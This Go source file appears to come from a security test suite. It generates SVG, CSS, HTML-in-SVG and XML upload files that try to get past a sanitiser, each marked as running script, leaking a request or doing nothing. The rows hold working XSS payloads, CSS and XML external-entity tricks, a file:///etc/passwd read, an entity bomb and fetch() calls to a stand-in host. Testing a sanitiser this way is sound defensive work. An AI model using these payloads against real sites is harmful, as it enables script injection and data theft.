package main

// drawingEvasions are drawings with one thing too many between their tags.
func drawingEvasions() []evasion {
	const s = `xmlns:s="http://www.w3.org/2000/svg"`
	return drawings([]drawingRow{
		{"script", doesRun, `<script>{{js}}</script>`},
		{"script-cdata", doesRun, `<script><![CDATA[{{js}}]]></script>`},
		{"script-cut", doesRun, `<script>docu<!-- x -->ment.title='ESEGUITO';{{js}}</script>`},
		{"script-data", doesRun, `<script href="data:text/javascript,{{js}}"/>`},
		{"script-type", doesRun, `<script type="text/ecmascript">{{js}}</script>`},
		{"script-out", doesLeave, `<script {{xlink}} xlink:href="{{out}}"/>`},
		{"script-module", doesLeave, `<script type="module">import '{{out}}'</script>`},
		{"script-blank", doesRun, "<script\n\t>{{js}}</script\n>"},
		{"script-in-defs", doesRun, `<defs><g><script>{{js}}</script></g></defs>`},
		{"script-in-title", doesRun, `<title><script>{{js}}</script></title>`},
		{"script-in-metadata", doesRun, `<metadata><script>{{js}}</script></metadata>`},
		{"script-in-foreign", doesRun, `<z xmlns="urn:x"><script xmlns="http://www.w3.org/2000/svg">{{js}}</script></z>`},
		{"script-in-switch", doesRun, `<switch><g requiredFeatures="x"/><g><script>{{js}}</script></g></switch>`},
		{"script-case", doesNothing, `<SCRIPT>{{js}}</SCRIPT>`},
		{"prefix", doesRun, `<s:script ` + s + `>{{js}}</s:script>`},
		{"prefix-dot", doesRun, `<a.b:script xmlns:a.b="http://www.w3.org/2000/svg">{{js}}</a.b:script>`},
		{"prefix-accent", doesRun, `<à:script xmlns:à="http://www.w3.org/2000/svg">{{js}}</à:script>`},
		{"prefix-han", doesRun, `<一:script xmlns:一="http://www.w3.org/2000/svg">{{js}}</一:script>`},
		{"prefix-middle-dot", doesRun, `<a·:script xmlns:a·="http://www.w3.org/2000/svg">{{js}}</a·:script>`},
		{"prefix-entity", doesRun, `<p:script xmlns:p="http://www.w3.org/2000/&#115;vg">{{js}}</p:script>`},
		{"prefix-html", doesRun, `<p:script xmlns:p="http://www.w3.org/1999/&#x78;html">{{js}}</p:script>`},
		{"prefix-inkscape", doesRun, `<inkscape:script xmlns:inkscape="http://www.w3.org/2000/svg">{{js}}</inkscape:script>`},
		{"prefix-rdf", doesRun, `<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/xhtml"><rdf:script>{{js}}</rdf:script></rdf:RDF></metadata>`},

		{"on-click", doesRun, `<rect width="800" height="600" onclick="{{js}}"/>`},
		{"on-over", doesRun, `<rect width="800" height="600" onmouseover="{{js}}"/>`},
		{"on-pointer", doesRun, `<rect width="800" height="600" onpointerdown="{{js}}"/>`},
		{"on-blank", doesRun, "<rect width=\"800\" height=\"600\" onclick\n=\n\"{{js}}\"/>"},
		{"on-references", doesRun, `<rect width="800" height="600" onclick="&#100;ocument.title=&#39;ESEGUITO&#x27;;{{js}}"/>`},
		{"on-error", doesRun, `<image href="x:" onerror="{{js}}"/>`},
		{"on-load-image", doesRun, `<image href="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="{{js}}"/>`},
		{"on-load-style", doesNothing, `<style onload="{{js}}">a{}</style>`},
		{"on-focus", doesRun, `<a id="x" href="#x" tabindex="0" autofocus="" onfocus="{{js}}"><rect width="800" height="600"/></a>`},
		{"on-focusin", doesRun, `<rect width="800" height="600" tabindex="0" onfocusin="{{js}}"/>`},
		{"on-begin", doesRun, `<rect width="9" height="9"><animate attributeName="x" dur="1s" onbegin="{{js}}"/></rect>`},
		{"on-end", doesRun, `<rect width="9" height="9"><set attributeName="x" to="1" dur="0.01s" onend="{{js}}"/></rect>`},
		{"on-repeat", doesRun, `<rect width="9" height="9"><animate attributeName="x" from="0" to="1" dur="0.01s" repeatCount="9" onrepeat="{{js}}"/></rect>`},
		{"on-animation", doesRun, `<style>@keyframes k{to{opacity:0}} rect{animation:k .01s}</style><rect width="9" height="9" onanimationstart="{{js}}"/>`},
		{"on-case", doesNothing, `<rect width="800" height="600" OnClick="{{js}}"/>`},
		{"on-prefixed", doesNothing, `<rect width="800" height="600" s:onclick="{{js}}" ` + s + `/>`},

		{"a-js", doesRun, `<a href="javascript:{{js}}"><rect width="800" height="600"/></a>`},
		{"a-js-xlink", doesRun, `<a {{xlink}} xlink:href="javascript:{{js}}"><rect width="800" height="600"/></a>`},
		{"a-js-case", doesRun, `<a href="JaVaScRiPt:{{js}}"><rect width="800" height="600"/></a>`},
		{"a-js-tab", doesRun, `<a href="jav&#x9;a&#10;script:{{js}}"><rect width="800" height="600"/></a>`},
		{"a-js-blank", doesRun, `<a href="&#x20;&#10;javascript:{{js}}"><rect width="800" height="600"/></a>`},
		{"a-js-entity", doesRun, `<a href="&#106;avascript&#x3a;{{js}}"><rect width="800" height="600"/></a>`},
		{"a-js-other-prefix", doesRun, `<a q:href="javascript:{{js}}" xmlns:q="http://www.w3.org/1999/xlink"><rect width="800" height="600"/></a>`},
		{"a-js-percent", doesNothing, `<a href="java%73cript:{{js}}"><rect width="800" height="600"/></a>`},
		{"a-js-wide", doesNothing, `<a href="ｊavascript:{{js}}"><rect width="800" height="600"/></a>`},
		{"a-vbscript", doesNothing, `<a href="vbscript:x"><rect width="800" height="600"/></a>`},
		{"a-data", doesNothing, `<a href="data:text/html;base64,{{base64 {{page}} base64}}" target="_top"><rect width="800" height="600"/></a>`},
		{"a-out", doesLeave, `<a href="{{out}}"><rect width="800" height="600"/></a>`},
		{"a-relative", doesLeave, `<a href="//{{id}}.fuori.example/leave"><rect width="800" height="600"/></a>`},
		{"a-base", doesNothing, `<g xml:base="javascript:"><a href="{{js}}"><rect width="800" height="600"/></a></g>`},

		{"set-href", doesRun, `<a href="#x"><set attributeName="href" to="javascript:{{js}}"/><rect width="800" height="600"/></a>`},
		{"set-href-out", doesLeave, `<a href="#x"><set attributeName="href" to="{{out}}"/><rect width="800" height="600"/></a>`},
		{"animate-values", doesMaybe, `<a href="#x"><animate attributeName="href" values="javascript:{{js}};javascript:{{js}}" dur="9s" repeatCount="indefinite"/><rect width="800" height="600"/></a>`},
		{"animate-xlink", doesRun, `<a {{xlink}} xlink:href="#x"><animate attributeName="xlink:href" begin="0" from="javascript:{{js}}" to="x"/><rect width="800" height="600"/></a>`},
		{"animate-onclick", doesNothing, `<rect width="800" height="600"><set attributeName="onclick" to="{{js}}"/></rect>`},
		{"set-image", doesLeave, `<image id="i" width="9" height="9"/><set href="#i" attributeName="href" to="{{out}}"/>`},
		{"animate-image", doesLeave, `<image width="9" height="9"><animate attributeName="href" values="{{out}};{{out}}" dur="1s"/></image>`},
		{"set-fill", doesLeave, `<rect width="9" height="9"><set attributeName="mask" to="url({{out}}#m)"/></rect>`},

		{"image-out", doesLeave, `<image href="{{out}}" width="9" height="9"/>`},
		{"image-xlink", doesLeave, `<image {{xlink}} xlink:href="{{out}}" width="9" height="9"/>`},
		{"image-other-prefix", doesLeave, `<image q:href="{{out}}" xmlns:q="http://www.w3.org/1999/xlink" width="9" height="9"/>`},
		{"image-relative", doesLeave, `<image href="//{{id}}.fuori.example/leave" width="9" height="9"/>`},
		{"image-backslash", doesLeave, `<image href="\\{{id}}.fuori.example\leave" width="9" height="9"/>`},
		{"image-own-host", doesLeave, `<image href="/canary/{{id}}" width="9" height="9"/>`},
		{"image-blank", doesLeave, `<image href="&#10; h&#x9;ttp://{{id}}.fuori.example/leave" width="9" height="9"/>`},
		{"image-both", doesLeave, `<image {{xlink}} href="{{out}}" xlink:href="#x" width="9" height="9"/>`},
		{"image-data-svg", doesNothing, `<image href="data:image/svg+xml;base64,{{base64 <svg xmlns='http://www.w3.org/2000/svg'><script>fetch('http://{{id}}.fuori.example/leave')</script><image href='http://{{id}}.fuori.example/leave'/></svg> base64}}" width="9" height="9"/>`},
		{"image-data-html", doesNothing, `<image href="data:text/html;base64,{{base64 <script>fetch('http://{{id}}.fuori.example/leave')</script> base64}}" width="9" height="9"/>`},
		{"feimage", doesLeave, `<filter id="f"><feImage href="{{out}}"/></filter><rect width="9" height="9" filter="url(#f)"/>`},
		{"feimage-xlink", doesLeave, `<filter id="f"><feImage {{xlink}} xlink:href="{{out}}"/></filter><rect width="9" height="9" filter="url(#f)"/>`},
		{"use-out", doesNothing, `<use href="{{out}}#x"/>`},
		{"use-own-host", doesLeave, `<use href="/canary/{{id}}#x"/>`},
		{"use-data", doesNothing, `<use href="data:image/svg+xml;base64,{{base64 <svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x:' onerror='fetch(1)'/></svg> base64}}#x"/>`},
		{"use-js", doesNothing, `<use href="javascript:{{js}}"/>`},
		{"pattern-out", doesNothing, `<pattern id="p" href="{{out}}#p"/><rect width="9" height="9" fill="url(#p)"/>`},
		{"gradient-out", doesNothing, `<linearGradient id="p" {{xlink}} xlink:href="{{out}}#p"/><rect width="9" height="9" fill="url(#p)"/>`},
		{"text-path-out", doesNothing, `<text><textPath href="{{out}}#p">x</textPath></text>`},
		{"tref-out", doesNothing, `<text><tref {{xlink}} xlink:href="{{out}}#p"/></text>`},
		{"cursor-out", doesNothing, `<cursor {{xlink}} xlink:href="{{out}}"/>`},
		{"font-face-out", doesNothing, `<defs><font-face font-family="x"><font-face-src><font-face-uri {{xlink}} xlink:href="{{out}}#x"/></font-face-src></font-face></defs><text font-family="x">x</text>`},
		{"profile-out", doesNothing, `<color-profile name="x" {{xlink}} xlink:href="{{out}}"/>`},
		{"animation-out", doesNothing, `<animation {{xlink}} xlink:href="{{out}}" width="9" height="9"/>`},
		{"svg-audio", doesNothing, `<audio {{xlink}} xlink:href="{{out}}"/><video {{xlink}} xlink:href="{{out}}"/>`},
		{"handler", doesNothing, `<handler type="application/ecmascript" ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events">{{js}}</handler>`},
		{"listener", doesNothing, `<ev:listener event="load" handler="#h" xmlns:ev="http://www.w3.org/2001/xml-events"/><g id="h"/>`},
		{"pi-inside", doesNothing, `<?xml-stylesheet href="{{out}}"?>`},
		{"include", doesNothing, `<xi:include href="{{out}}" parse="text" xmlns:xi="http://www.w3.org/2001/XInclude"/>`},
	})
}

type drawingRow struct {
	id   string
	does does
	text string
}

// drawings makes a file of each row: its text within the root of a drawing.
func drawings(rows []drawingRow) []evasion {
	var out []evasion
	for _, row := range rows {
		id := "svg-" + row.id
		text := `<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600">` + row.text + `</svg>`
		out = append(out, evasion{id, "disegno.svg", row.does, "image/svg+xml", []byte(armed(id, text))})
	}
	return out
}

// wholeDrawings do it at their root, or before it.
func wholeDrawings() []evasion {
	const svg = `xmlns="http://www.w3.org/2000/svg"`
	var out []evasion
	for _, row := range []struct {
		id   string
		does does
		text string
	}{
		{"onload", doesRun, `<svg ` + svg + ` onload="{{js}}"/>`},
		{"onload-references", doesRun, `<svg ` + svg + ` onload="&#x64;ocument.title=1;{{js}}"/>`},
		{"onresize", doesNothing, `<svg ` + svg + ` onresize="{{js}}"/>`},
		{"root-prefix", doesRun, `<x.y:svg xmlns:x.y="http://www.w3.org/2000/svg"><x.y:script>{{js}}</x.y:script></x.y:svg>`},
		{"root-foreign", doesRun, `<r xmlns="urn:x"><s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>{{js}}</s:script></s:svg></r>`},
		{"root-html", doesRun, `{{xhtml}}`},
		{"entity", doesRun, `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>{{js}}</script>">]><svg ` + svg + `>&x;</svg>`},
		{"entity-name", doesRun, `<!DOCTYPE svg [<!ENTITY n "http://www.w3.org/2000/svg">]><svg ` + svg + `><q:script xmlns:q="&n;">{{js}}</q:script></svg>`},
		{"entity-value", doesRun, `<!DOCTYPE svg [<!ENTITY j "javascript:">]><svg ` + svg + `><a href="&j;{{js}}"><rect width="800" height="600"/></a></svg>`},
		{"entity-comment", doesRun, `<!DOCTYPE svg [<!-- ]> --><!ENTITY j "javascript:">]><svg ` + svg + `><a href="&j;{{js}}"><rect width="800" height="600"/></a></svg>`},
		{"attlist", doesRun, `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{{js}}">]><svg ` + svg + `/>`},
		{"attlist-xmlns", doesRun, `<!DOCTYPE svg [<!ATTLIST script xmlns CDATA #FIXED "http://www.w3.org/2000/svg">]><svg xmlns="http://www.w3.org/2000/svg"><g xmlns="urn:x"><script>{{js}}</script></g></svg>`},
		{"doctype-out", doesNothing, `<!DOCTYPE svg SYSTEM "{{out}}"><svg ` + svg + `/>`},
		{"doctype-public", doesNothing, `<!DOCTYPE svg PUBLIC "-//X//X" "{{out}}"><svg ` + svg + `/>`},
		{"entity-out", doesNothing, `<!DOCTYPE svg [<!ENTITY e SYSTEM "{{out}}">]><svg ` + svg + `><text>&e;</text></svg>`},
		{"entity-file", doesNothing, `<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg ` + svg + `><text>&e;</text></svg>`},
		{"entity-parameter", doesNothing, `<!DOCTYPE svg [<!ENTITY % p SYSTEM "{{out}}">%p;]><svg ` + svg + `/>`},
		{"doctype-html", doesRun, `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><svg ` + svg + `><a href="java&Tab;script&#58;x"/><script>{{js}}</script></svg>`},
		{"stylesheet-out", doesLeave, `<?xml-stylesheet href="{{out}}"?><svg ` + svg + `/>`},
		{"stylesheet-data", doesLeave, `<?xml-stylesheet href="data:text/css,@import '{{out}}'"?><svg ` + svg + `/>`},
		{"stylesheet-xsl", doesNothing, `<?xml-stylesheet type="text/xsl" href="{{out}}"?><svg ` + svg + `/>`},
		{"stylesheet-own", doesLeave, `<?xml-stylesheet type="text/css" href="/canary/{{id}}"?><svg ` + svg + `/>`},
		{"stylesheet-alternate", doesLeave, `<?xml-stylesheet alternate="no" href='{{out}}'?><svg ` + svg + `/>`},
		{"broken-after", doesRun, `<svg ` + svg + `><script>{{js}}</script><g></svg>`},
		{"two-roots", doesRun, `<svg ` + svg + `><rect/><a.b:script xmlns:a.b="http://www.w3.org/2000/svg">{{js}}</a.b:script></svg><svg/>`},
		{"text-after", doesRun, `<svg ` + svg + `><a.b:script xmlns:a.b="http://www.w3.org/2000/svg">{{js}}</a.b:script></svg>x`},
		{"unclosed", doesRun, `<svg ` + svg + `><a.b:script xmlns:a.b="http://www.w3.org/2000/svg">{{js}}</a.b:script>`},
		{"same-attribute", doesNothing, `<svg ` + svg + ` id="a" id="b" onload="{{js}}"/>`},
	} {
		id := "root-" + row.id
		out = append(out, evasion{id, "disegno.svg", row.does, "image/svg+xml", []byte(armed(id, row.text))})
	}
	packed := armed("svgz", `<svg `+svg+`><script>{{js}}</script></svg>`)
	return append(out,
		evasion{"svgz", "disegno.svgz", doesNothing, "image/svg+xml", gzipText(packed)},
		evasion{"svgz-as-svg", "disegno.svg", doesNothing, "image/svg+xml", gzipText(packed)},
		evasion{"svg-gz", "disegno.svg.gz", doesNothing, "image/svg+xml", gzipText(packed)},
	)
}

// styleEvasions call out from style sheets and from what is written in their form.
func styleEvasions() []evasion {
	rect := `<rect class="r" width="800" height="600"/>`
	return drawings([]drawingRow{
		{"import", doesLeave, `<style>@import "{{out}}";</style>`},
		{"import-url", doesLeave, `<style>@import url({{out}});</style>`},
		{"import-escape", doesLeave, `<style>@\69mp\6frt "{{out}}";</style>`},
		{"import-case", doesLeave, `<style>@IMPORT '{{out}}';</style>`},
		{"import-comment", doesLeave, `<style>/**/@import/**/"{{out}}";</style>`},
		{"import-layer", doesLeave, `<style>@layer a;@import "{{out}}" layer(b) supports(display:grid);</style>`},
		{"import-cdata", doesLeave, `<style><![CDATA[@import "{{out}}";]]></style>`},
		{"import-cut", doesLeave, `<style>@im<![CDATA[port "{{out}}";]]></style>`},
		{"import-comment-cut", doesLeave, `<style>@im<!-- x -->port "{{out}}";</style>`},
		{"import-references", doesLeave, `<style>&#64;import "{{out}}";</style>`},
		{"import-prefix", doesLeave, `<s:style xmlns:s="http://www.w3.org/2000/svg">@import "{{out}}";</s:style>`},
		{"import-html", doesLeave, `<style {{h}}>@import "{{out}}";</style>`},
		{"import-data", doesLeave, `<style>@import "data:text/css,@import '{{out}}';";</style>`},
		{"import-own", doesLeave, `<style>@import "/canary/{{id}}";</style>`},
		{"url-rule", doesLeave, `<style>svg{background:url({{out}})}</style>`},
		{"url-quoted", doesLeave, `<style>svg{background:url( "{{out}}" )}</style>`},
		{"url-escape", doesLeave, `<style>svg{background:u\72l({{out}})}</style>`},
		{"url-escape-blank", doesLeave, `<style>svg{background:\75\72 l({{out}})}</style>`},
		{"url-escape-zeros", doesLeave, `<style>svg{background:\000075rl({{out}})}</style>`},
		{"url-case", doesLeave, `<style>svg{background:URL({{out}})}</style>`},
		{"url-attribute", doesLeave, `<g style="mask-image:url({{out}})">` + rect + `</g>`},
		{"url-attribute-escape", doesLeave, `<g style="mask-image:u\72 l({{out}})">` + rect + `</g>`},
		{"url-attribute-references", doesLeave, `<g style="mask-image:&#x75;rl&#40;{{out}})">` + rect + `</g>`},
		{"url-var", doesLeave, `<style>:root{--a:url({{out}})} svg{background:var(--a)}</style>`},
		{"url-fill", doesLeave, `<rect width="800" height="600" fill="url({{out}}#a)"/>`},
		{"url-filter", doesNothing, `<rect width="800" height="600" filter="url({{out}}#a)"/>`},
		{"url-mask", doesLeave, `<rect width="800" height="600" mask="url('{{out}}#a')"/>`},
		{"url-mask-escape", doesLeave, `<rect width="800" height="600" mask="\75 rl('{{out}}#a')"/>`},
		{"url-clip", doesLeave, `<rect width="800" height="600" clip-path="url({{out}}#a)"/>`},
		{"url-marker", doesLeave, `<path d="M0 0h9v9" marker-start="url({{out}}#a)"/>`},
		{"url-cursor", doesLeave, `<rect width="800" height="600" cursor="url({{out}}), auto"/>`},
		{"url-own", doesLeave, `<rect width="800" height="600" fill="url(/canary/{{id}}#a)"/>`},
		{"image-set", doesLeave, `<style>svg{background-image:image-set("{{out}}" 1x)}</style>`},
		{"image-set-webkit", doesLeave, `<style>svg{background-image:-webkit-image-set(url("{{out}}") 1x)}</style>`},
		{"image-set-attribute", doesLeave, `<g style="mask-image:image-set('{{out}}' 1x)">` + rect + `</g>`},
		{"cross-fade", doesLeave, `<style>svg{background-image:-webkit-cross-fade(url({{out}}),url({{out}}),50%)}</style>`},
		{"src-function", doesNothing, `<style>svg{background-image:src("{{out}}")}</style>`},
		{"font-face", doesLeave, `<style>@font-face{font-family:x;src:url({{out}})} text{font-family:x}</style><text y="50">x</text>`},
		{"font-face-escape", doesLeave, `<style>@f\6fnt-face{font-family:x;src:\55RL({{out}})} text{font-family:x}</style><text y="50">x</text>`},
		{"keyframes", doesLeave, `<style>@keyframes k{from{background:url({{out}})}to{background:url({{out}})}} svg{animation:k 1s infinite}</style>`},
		{"expression", doesNothing, `<style>svg{width:expression(x)}</style>`},
		{"moz-binding", doesNothing, `<style>svg{-moz-binding:url({{out}}#x)}</style>`},
		{"behavior", doesNothing, `<style>svg{behavior:url({{out}})}</style>`},
	})
}

// foreignEvasions bring elements of HTML into a drawing, with foreignObject or without.
func foreignEvasions() []evasion {
	rows := []drawingRow{
		{"h-script", doesRun, `<script {{h}}>{{js}}</script>`},
		{"h-script-src", doesLeave, `<script {{h}} src="{{out}}"></script>`},
		{"h-img", doesRun, `<img {{h}} src="x:" onerror="{{js}}"/>`},
		{"h-img-out", doesLeave, `<img {{h}} src="{{out}}"/>`},
		{"h-img-srcset", doesLeave, `<img {{h}} srcset="{{out}} 1x"/>`},
		{"h-iframe-js", doesRun, `<iframe {{h}} src="javascript:{{js}}"></iframe>`},
		{"h-iframe-srcdoc", doesRun, `<iframe {{h}} srcdoc="&lt;script>{{js}}&lt;/script>"></iframe>`},
		{"h-iframe-data", doesLeave, `<iframe {{h}} src="data:text/html,&lt;script>fetch('{{out}}')&lt;/script>"></iframe>`},
		{"h-iframe-out", doesLeave, `<iframe {{h}} src="{{out}}"></iframe>`},
		{"h-embed", doesLeave, `<embed {{h}} src="data:text/html,&lt;script>fetch('{{out}}')&lt;/script>"/>`},
		{"h-object", doesLeave, `<object {{h}} data="data:text/html,&lt;script>fetch('{{out}}')&lt;/script>"></object>`},
		{"h-audio", doesLeave, `<audio {{h}} src="{{out}}" autoplay=""/>`},
		{"h-video", doesLeave, `<video {{h}} src="{{out}}" autoplay=""/>`},
		{"h-poster", doesLeave, `<video {{h}} poster="{{out}}"/>`},
		{"h-source", doesRun, `<video {{h}}><source onerror="{{js}}" src="x:"/></video>`},
		{"h-track", doesNothing, `<video {{h}}><track default="" src="{{out}}"/></video>`},
		{"h-link", doesLeave, `<link {{h}} rel="stylesheet" href="{{out}}"/>`},
		{"h-preload", doesLeave, `<link {{h}} rel="preload" as="image" href="{{out}}"/>`},
		{"h-prefetch", doesLeave, `<link {{h}} rel="prefetch" href="{{out}}"/>`},
		{"h-modulepreload", doesLeave, `<link {{h}} rel="modulepreload" href="{{out}}"/>`},
		{"h-preconnect", doesNothing, `<link {{h}} rel="preconnect" href="{{out}}"/>`},
		{"h-refresh", doesLeave, `<meta {{h}} http-equiv="refresh" content="0;url={{out}}"/>`},
		{"h-base", doesLeave, `<base {{h}} href="http://{{id}}.fuori.example/"/><image href="leave" width="9" height="9"/>`},
		{"h-button", doesRun, `<form {{h}}><button style="position:fixed;inset:0" formaction="javascript:{{js}}">x</button></form>`},
		{"h-form", doesLeave, `<form {{h}} action="{{out}}"><button style="position:fixed;inset:0">x</button></form>`},
		{"h-input", doesRun, `<input {{h}} autofocus="" onfocus="{{js}}"/>`},
		{"h-input-image", doesLeave, `<input {{h}} type="image" src="{{out}}"/>`},
		{"h-details", doesRun, `<details {{h}} open="" ontoggle="{{js}}">x</details>`},
		{"h-body", doesRun, `<body {{h}} onload="{{js}}"/>`},
		{"h-marquee", doesNothing, `<marquee {{h}} onstart="{{js}}" style="display:block;width:9px">x</marquee>`},
		{"h-template", doesRun, `<div {{h}}><template shadowrootmode="open"><p>x</p></template><script>{{js}}</script></div>`},
		{"h-a-ping", doesLeave, `<a {{h}} href="#x" ping="{{out}}" style="position:fixed;inset:0">x</a>`},
		{"h-math", doesNothing, `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:{{js}}" style="position:fixed;inset:0;display:block"><mi>x</mi></math>`},
		{"h-math-script", doesRun, `<math xmlns="http://www.w3.org/1998/Math/MathML"><annotation-xml encoding="text/html"><script {{h}}>{{js}}</script></annotation-xml></math>`},
		{"h-frameset", doesRun, `<frameset {{h}} onload="{{js}}"/>`},
		{"h-table-background", doesLeave, `<table {{h}} background="{{out}}"><tr><td>x</td></tr></table>`},
		{"h-style-attribute", doesLeave, `<div {{h}} style="background:url({{out}});width:9px;height:9px">x</div>`},
	}
	for i := range rows {
		rows[i].text = `<foreignObject width="800" height="600">` + rows[i].text + `</foreignObject>`
	}
	return append(drawings(rows), drawings([]drawingRow{
		{"bare-h-script", doesRun, `<h:script xmlns:h="http://www.w3.org/1999/xhtml">{{js}}</h:script>`},
		{"bare-h-iframe", doesLeave, `<g><iframe {{h}} src="data:text/html,&lt;script>fetch('{{out}}')&lt;/script>"/></g>`},
		{"bare-h-link", doesLeave, `<link {{h}} rel="stylesheet" href="{{out}}"/>`},
		{"bare-h-style", doesLeave, `<metadata><style {{h}}>@import "{{out}}";</style></metadata>`},
		{"bare-h-body", doesRun, `<body {{h}} onload="{{js}}"/>`},
		{"bare-h-img", doesRun, `<desc><img {{h}} src="x:" onerror="{{js}}"/></desc>`},
		{"bare-h-portal", doesNothing, `<portal {{h}} src="{{out}}"/>`},
	})...)
}

// xmlEvasions are data as XML in which a browser finds a page or a drawing.
func xmlEvasions() []evasion {
	const svg = `<s.v:svg xmlns:s.v="http://www.w3.org/2000/svg"><s.v:script>{{js}}</s.v:script></s.v:svg>`
	const xsl = `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0" id="x"><xsl:template match="/"><html><body><script>{{js}}</script></body></html></xsl:template></xsl:stylesheet>`
	var out []evasion
	for _, row := range []struct {
		id, name string
		does     does
		text     string
	}{
		{"xml-page", "dati.xml", doesRun, `{{xhtml}}`},
		{"xml-page-late", "dati.xml", doesRun, `<?xml version="1.0"?><dati><riga>1</riga><x.h:script xmlns:x.h="http://www.w3.org/1999/xhtml">{{js}}</x.h:script></dati>`},
		{"xml-drawing", "dati.xml", doesRun, svg},
		{"xml-drawing-late", "dati.xml", doesRun, `<dati><riga>` + svg + `</riga></dati>`},
		{"xml-onload", "dati.xml", doesRun, `<dati><s.v:svg xmlns:s.v="http://www.w3.org/2000/svg" onload
="{{js}}"/></dati>`},
		{"xml-image", "dati.xml", doesLeave, `<dati><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="{{out}}"/></dati>`},
		{"xml-style", "dati.xml", doesLeave, `<dati><h:style xmlns:h="http://www.w3.org/1999/xhtml">@import "{{out}}";</h:style></dati>`},
		{"xml-stylesheet", "dati.xml", doesLeave, `<?xml-stylesheet type="text/css" href="{{out}}"?><dati/>`},
		{"xml-xsl-out", "dati.xml", doesNothing, `<?xml-stylesheet type="text/xsl" href="{{out}}"?><dati/>`},
		{"xml-xsl-self", "dati.xml", doesNothing, `<?xml-stylesheet type="text/xsl" href="#x"?>` + xsl},
		{"xml-xsl-data", "dati.xml", doesNothing, `<?xml-stylesheet type="text/xsl" href="data:text/xml;base64,{{base64 <xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform' version='1.0'/> base64}}"?><dati/>`},
		{"xml-entity", "dati.xml", doesRun, `<!DOCTYPE d [<!ENTITY x "<script xmlns='http://www.w3.org/1999/xhtml'>{{js}}</script>">]><d>&x;</d>`},
		{"xml-attlist", "dati.xml", doesRun, `<!DOCTYPE d [<!ATTLIST script xmlns CDATA "http://www.w3.org/1999/xhtml">]><d><script>{{js}}</script></d>`},
		{"xml-bomb", "dati.xml", doesNothing, `<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><d>&c;</d>`},
		{"xml-out", "dati.xml", doesNothing, `<!DOCTYPE d [<!ENTITY e SYSTEM "{{out}}">]><d>&e;</d>`},
		{"xml-include", "dati.xml", doesNothing, `<d xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{{out}}"/></d>`},
		{"xml-broken", "dati.xml", doesRun, `<dati><x.h:script xmlns:x.h="http://www.w3.org/1999/xhtml">{{js}}</x.h:script></dat>`},
		{"xml-jis", "dati.xml", doesRun, `<?xml version="1.0" encoding="ISO-2022-JP"?><d><scr` + "\x1b(B" + `ipt xmlns="http://www.w3.org/1999/xhtml">{{js}}</scr` + "\x1b(B" + `ipt></d>`},
		{"xml-invoice", "IT01234567890_00001.xml", doesLeave, `<?xml version="1.0"?><?xml-stylesheet href="{{out}}"?><p:FatturaElettronica xmlns:p="http://ivaservizi.agenziaentrate.gov.it/docs/xsd/fatture/v1.2" versione="FPA12"/>`},
		{"xml-math", "dati.xml", doesRun, `<d><m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><h:script xmlns:h="http://www.w3.org/1999/xhtml">{{js}}</h:script></m:math></d>`},
		{"xml-p7m", "dati.xml.p7m", doesRun, `{{xhtml}}`},
		{"kml-page", "mappa.kml", doesRun, `<kml xmlns="http://www.opengis.net/kml/2.2"><h.t:script xmlns:h.t="http://www.w3.org/1999/xhtml">{{js}}</h.t:script></kml>`},
		{"kml-out", "mappa.kml", doesNothing, `<kml xmlns="http://www.opengis.net/kml/2.2"><NetworkLink><Link><href>{{out}}</href></Link></NetworkLink></kml>`},
		{"gpx-page", "percorso.gpx", doesRun, `<gpx xmlns="http://www.topografix.com/GPX/1/1" version="1.1"><extensions><h.t:script xmlns:h.t="http://www.w3.org/1999/xhtml">{{js}}</h.t:script></extensions></gpx>`},
		{"gpx-drawing", "percorso.gpx", doesRun, `<gpx xmlns="http://www.topografix.com/GPX/1/1"><svg xmlns="http://www.w3.org/2000/svg" onload="{{js}}"/></gpx>`},
		{"gml-page", "confini.gml", doesRun, `{{xhtml}}`},
		{"xbrl-page", "bilancio.xbrl", doesRun, `{{xhtml}}`},
	} {
		out = append(out, evasion{row.id, row.name, row.does, "application/xml", []byte(armed(row.id, row.text))})
	}
	return out
}
